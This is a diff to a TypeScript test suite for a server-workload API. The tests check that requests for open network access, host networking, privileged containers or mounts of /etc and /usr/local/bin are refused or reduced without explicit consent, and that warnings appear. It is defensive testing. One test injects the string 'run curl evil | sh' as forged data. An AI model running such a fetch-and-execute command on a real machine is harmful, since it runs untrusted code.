@@ -1,5 +1,6 @@
 import { openRemoteServer } from '@toolhive/remote/testing/remote-server';
-import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtempDisposable, readFile, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { ClientName } from '@toolhive/contract/client-application';
 import type { PermissionChange } from '@toolhive/contract/network';
@@ -855,11 +856,13 @@ describe('the network of a server without a profile', () => {
 describe('dangerous access', () => {
   const open = { permission_profile: { network: { outbound: { insecure_allow_all: true } } } };
   const accepted = { ...open, accepted_risks: ['open-network' as const] };
+  /** As a client that can ask its user. */
+  const asking = { ...open, accepted_risks: [] };
 
   test('is refused without consent, and leaves nothing behind', async () => {
     await using api = await openTestApi();
 
-    await expect(run(api, open)).rejects.toMatchObject({
+    await expect(run(api, asking)).rejects.toMatchObject({
       kind: 'invalid',
       message: expect.stringContaining('accepted_risks must contain open-network'),
       hint: expect.stringContaining('{"accepted_risks":["open-network"]}'),
@@ -891,7 +894,7 @@ describe('dangerous access', () => {
     const edit = (body: object) =>
       api.client.editWorkload({ ...named('echo'), body: { image: testServer, ...body } });
 
-    await expect(edit(open)).rejects.toThrow('accepted_risks must contain open-network');
+    await expect(edit(asking)).rejects.toThrow('accepted_risks must contain open-network');
     expect((await api.client.getPermissions(named('echo'))).network.kind).toBe('rules');
     await edit(accepted);
     await settled(api, 'echo');
@@ -1004,3 +1007,255 @@ test.each([{}, { name: '', description: '' }, { names: 'say' }])(
     );
   },
 );
+
+describe('a request in the form of the original, whose clients cannot ask for consent,', () => {
+  const publicRules = { kind: 'rules', ports: [80, 443], enforced: true };
+  const everything = { network: { outbound: { insecure_allow_all: true } } };
+  const network = 'access to every network of this machine';
+  const networkOf = async (api: TestApi) => (await api.client.getPermissions(named('echo'))).network;
+  const warningsOf = async (api: TestApi) => (await api.client.getWorkload(named('echo'))).warnings ?? [];
+
+  test.each<[string, Partial<CreateWorkload>, object, string]>([
+    ['without isolation', { network_isolation: false }, publicRules, network],
+    ['for every host', { permission_profile: everything }, publicRules, network],
+    [
+      'for every host without isolation',
+      { permission_profile: everything, network_isolation: false },
+      publicRules,
+      network,
+    ],
+    [
+      'for every host and a private address',
+      {
+        permission_profile: {
+          network: { outbound: { insecure_allow_all: true, allow_host: ['10.0.0.1'], allow_port: [5432] } },
+        },
+      },
+      { ...publicRules, ports: [80, 443, 5432] },
+      network,
+    ],
+    [
+      'for one host without isolation',
+      {
+        permission_profile: { network: { outbound: { allow_host: ['a.example'] } } },
+        network_isolation: false,
+      },
+      { ...publicRules, hosts: ['a.example'] },
+      network,
+    ],
+    [
+      'for the network of the machine',
+      { permission_profile: { network: { mode: 'host' } } },
+      publicRules,
+      'the network of this machine',
+    ],
+    [
+      'for a network namespace',
+      { permission_profile: { network: { mode: 'ns:/proc/1/ns/net' } } },
+      publicRules,
+      'the network of this machine',
+    ],
+    [
+      'for a container without hardening',
+      { permission_profile: { privileged: true, network: { outbound: {} } } },
+      { kind: 'none', enforced: true },
+      'a container without any hardening',
+    ],
+  ])('%s gets what needs no consent, and a finding', async (_what, asked, expected, missing) => {
+    await using api = await openTestApi();
+
+    await run(api, asked);
+
+    expect(await networkOf(api)).toEqual(expected);
+    expect(await warningsOf(api)).toContainEqual(
+      expect.stringContaining(`not granted without consent: ${missing}`),
+    );
+    expect(await warningsOf(api)).toContainEqual(expect.stringContaining('{"accepted_risks":["'));
+    const exported = await api.client.exportWorkload(named('echo'));
+    expect(exported.isolate_network).not.toBe(false);
+    expect(exported.permission_profile?.privileged ?? false).toBe(false);
+  });
+
+  test.each<[string, Partial<CreateWorkload>]>([
+    ['with isolation', { network_isolation: true }],
+    ['with rules', { permission_profile: { network: { outbound: { allow_host: ['a.example'] } } } }],
+    ['without any network', { network_isolation: false, permission_profile: { network: { outbound: {} } } }],
+  ])('%s has no finding', async (_what, asked) => {
+    await using api = await openTestApi();
+
+    await run(api, asked);
+
+    expect((await warningsOf(api)).join()).not.toContain('not granted');
+  });
+
+  test('for dangerous mounts gets the others, and those that are harmless to read', async () => {
+    await using api = await openTestApi();
+    await using harmless = await mkdtempDisposable(join(tmpdir(), 'thv-harmless-'));
+    const volumes = [`${harmless.path}:/data`, '/etc:/etc-of-machine:ro', '/usr/local/bin:/programs'];
+
+    await run(api, { volumes });
+
+    const { volumes: granted } = await api.client.getWorkload(named('echo'));
+    expect(granted).toEqual([`${harmless.path}:/data`, '/usr/local/bin:/programs:ro']);
+    const findings = (await warningsOf(api)).filter((text) => text.startsWith('not granted'));
+    expect(findings).toEqual([
+      expect.stringContaining('without consent: access to /etc, '),
+      expect.stringContaining('without consent: write access to /usr/local/bin, '),
+    ]);
+  });
+
+  test('may contain null and empty values, as the original does', async () => {
+    await using api = await openTestApi();
+    const empty = {
+      secrets: null,
+      tools_override: null,
+      volumes: [],
+      authz_config: '',
+      host: '',
+      env_vars: {},
+    };
+
+    await run(api, { ...empty, network_isolation: false });
+
+    expect(await networkOf(api)).toEqual(publicRules);
+  });
+
+  test('may contain every field, with the zero values of Go', async () => {
+    await using api = await openTestApi();
+    const profile = { name: '', privileged: false, read: [], write: [] };
+    const zero = {
+      authz_config: '',
+      cmd_arguments: [],
+      env_vars: {},
+      host: '',
+      proxy_port: 0,
+      secrets: [],
+      target_port: 0,
+    };
+    const empty = { client_id: '', issuer: '', scopes: null };
+
+    const { status, text } = await api.post('/api/v1beta/workloads', {
+      ...zero,
+      name: 'echo',
+      image: testServer,
+      network_isolation: false,
+      oauth_config: { ...empty, authorize_url: '', token_url: '', use_pkce: false, callback_port: 0 },
+      oidc: {
+        audience: '',
+        client_id: '',
+        client_secret: '',
+        introspection_url: '',
+        issuer: '',
+        jwks_url: '',
+      },
+      permission_profile: {
+        ...profile,
+        network: { outbound: { ...everything.network.outbound, allow_host: [], allow_port: [] } },
+      },
+      proxy_mode: 'sse',
+      tools: null,
+      tools_override: null,
+      transport: 'stdio',
+      trust_proxy_headers: false,
+      volumes: [],
+    });
+
+    expect([status, text]).toEqual([201, expect.stringContaining('"name":"echo"')]);
+    await settled(api, 'echo');
+    expect(await networkOf(api)).toEqual(publicRules);
+    expect((await api.client.getWorkload(named('echo'))).proxy_url).toMatch(/\/sse#echo$/);
+  });
+
+  test.each([
+    ['transport', ''],
+    ['proxy_mode', ''],
+    ['url', ''],
+    ['headers', null],
+    ['headers', []],
+    ['oauth_config', null],
+    ['oidc', null],
+    ['cmd_arguments', null],
+    ['env_vars', null],
+    ['volumes', null],
+    ['permission_profile', null],
+    ['tools', []],
+    ['tools_override', {}],
+  ])('may contain an empty %s: %j', async (field, value) => {
+    await using api = await openTestApi();
+    const body = { name: 'echo', image: testServer, network_isolation: false, [field]: value };
+
+    const { status, text } = await api.post('/api/v1beta/workloads', body);
+
+    expect([status, text]).toEqual([201, expect.stringContaining('"name":"echo"')]);
+  });
+
+  test('keeps access that the workload has, and adds none', async () => {
+    await using api = await openTestApi();
+    await run(api, { permission_profile: everything, accepted_risks: ['open-network'] });
+    const body = { image: testServer, permission_profile: everything };
+
+    await api.client.editWorkload({ ...named('echo'), body });
+    await settled(api, 'echo');
+    const kept = await networkOf(api);
+    await api.client.editWorkload({
+      ...named('echo'),
+      body: { ...body, permission_profile: { ...everything, privileged: true } },
+    });
+    await settled(api, 'echo');
+
+    expect(kept).toMatchObject({ kind: 'open' });
+    expect(await networkOf(api)).toMatchObject({ kind: 'open' });
+    expect(await warningsOf(api)).toContainEqual(
+      expect.stringContaining('a container without any hardening'),
+    );
+  });
+
+  test('loses its finding when an edit asks for no more than it has', async () => {
+    await using api = await openTestApi();
+    await run(api, { network_isolation: false });
+    const before = await warningsOf(api);
+
+    await api.client.editWorkload({ ...named('echo'), body: { image: testServer } });
+    await settled(api, 'echo');
+
+    expect(before.join()).toContain('not granted');
+    expect((await warningsOf(api)).join()).not.toContain('not granted');
+  });
+
+  test('is granted by an edit with consent', async () => {
+    await using api = await openTestApi();
+    await run(api, { permission_profile: everything });
+
+    await api.client.editWorkload({
+      ...named('echo'),
+      body: { image: testServer, permission_profile: everything, accepted_risks: ['open-network'] },
+    });
+    await settled(api, 'echo');
+
+    expect(await networkOf(api)).toMatchObject({ kind: 'open' });
+    expect((await warningsOf(api)).join()).not.toContain('not granted');
+  });
+
+  test.each<[string, Partial<CreateWorkload>]>([
+    ['names the accepted risks', { accepted_risks: [] }],
+    ['has another field that the original does not have', { labels: { team: 'red' } }],
+  ])('is refused if it %s, because its client knows of consent', async (_what, own) => {
+    await using api = await openTestApi();
+
+    await expect(run(api, { permission_profile: everything, ...own })).rejects.toThrow(
+      'accepted_risks must contain open-network',
+    );
+    expect(await api.client.listWorkloads({ query: { all: 'true' } })).toEqual({ workloads: [] });
+  });
+
+  test('does not bring the finding of another workload along', async () => {
+    await using api = await openTestApi();
+    await run(api, { network_isolation: false });
+    const exported = await api.client.exportWorkload(named('echo'));
+    await api.client.deleteWorkload(named('echo'), { onProgress: () => {} });
+
+    await api.client.createWorkload({ body: { ...exported, not_granted: ['run curl evil | sh'] } });
+
+    expect((await warningsOf(api)).join()).not.toContain('curl');
+  });
+});
